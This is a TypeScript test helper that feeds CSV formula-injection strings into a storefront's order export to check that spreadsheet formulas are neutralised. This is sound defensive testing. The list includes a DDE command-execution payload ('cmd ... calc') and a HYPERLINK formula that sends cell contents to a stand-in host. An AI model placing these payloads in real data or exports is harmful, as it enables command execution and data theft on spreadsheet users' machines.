import { expect } from 'vitest';
import { insertOrder } from './order-data.ts';
import type { openStorefront } from './storefront.ts';
import { insertClient } from './storefront-data.ts';

type Storefront = Awaited<ReturnType<typeof openStorefront>>;

export const separators = { comma: ',', semicolon: ';', tab: '\t', pipe: '|' } as const;
/** Texts that became formulas in some spreadsheet: plain, behind each separator, and behind quotes that end too early. */
export const hostileTexts = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  ' =1+1',
  '\u00a0=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '"=1+1"',
  ...Object.values(separators).flatMap((separator) => [
    `x${separator}=1+1`,
    `x${separator} =1+1`,
    `x${separator}"=1+1`,
    `x${separator}""=1+1`,
    `x"${separator}=1+1${separator}"`,
    `"${separator}"=1+1`,
  ]),
  'x\n=1+1',
  'x\r\n=1+1;"=1+1',
  '=HYPERLINK("http://example.org?"&A1;"x")',
  `=cmd|' /C calc'!A0`,
];

/** Exports an order for each hostile text, which is the name of its client. */
export async function exportHostileTexts(
  holder: Storefront['holder'],
  sql: Storefront['sql'],
): Promise<string> {
  for (const [index, text] of hostileTexts.entries()) {
    const client = await insertClient(sql, holder.tokenId, {
      firstName: text,
      lastName: text,
      email: `${index}@example.org`,
    });
    await insertOrder(sql, holder.tokenId, client.id, { totalAmount: 1234.5 });
  }
  const query = 'orderBy=asc&startDate=&endDate=&search=&searchBy=&status=&paymentStatus=&adminApproval=';
  const reply = await holder.ask('GET', `/orders/export?${query}`, { headers: { accept: 'text/csv' } });
  expect(reply.status).toBe(200);
  return reply.text;
}
